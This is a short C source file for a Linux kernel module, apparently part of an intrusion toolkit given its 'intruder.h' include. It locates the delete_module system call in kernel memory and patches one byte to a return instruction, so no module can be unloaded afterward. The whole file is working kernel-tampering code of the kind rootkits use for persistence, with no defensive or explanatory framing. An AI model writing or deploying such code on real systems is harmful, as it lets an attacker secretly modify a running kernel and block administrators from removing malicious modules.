/* Patches one byte of kernel text: delete_module returns at once, so no module can be unloaded. */
#include "intruder.h"

static int __init begin(void) {
    static const u8 endbr64[] = {0xf3, 0x0f, 0x1e, 0xfa}, ret = 0xc3;
    unsigned long function = find("__x64_sys_delete_module");
    if (!function) {
        return -ENOENT;
    }
    if (!memcmp((void *)function, endbr64, sizeof endbr64)) {
        function += sizeof endbr64;
    }
    /* After the call that ftrace replaces */
    return overwrite(function + 5, &ret, sizeof ret);
}
module_init(begin);
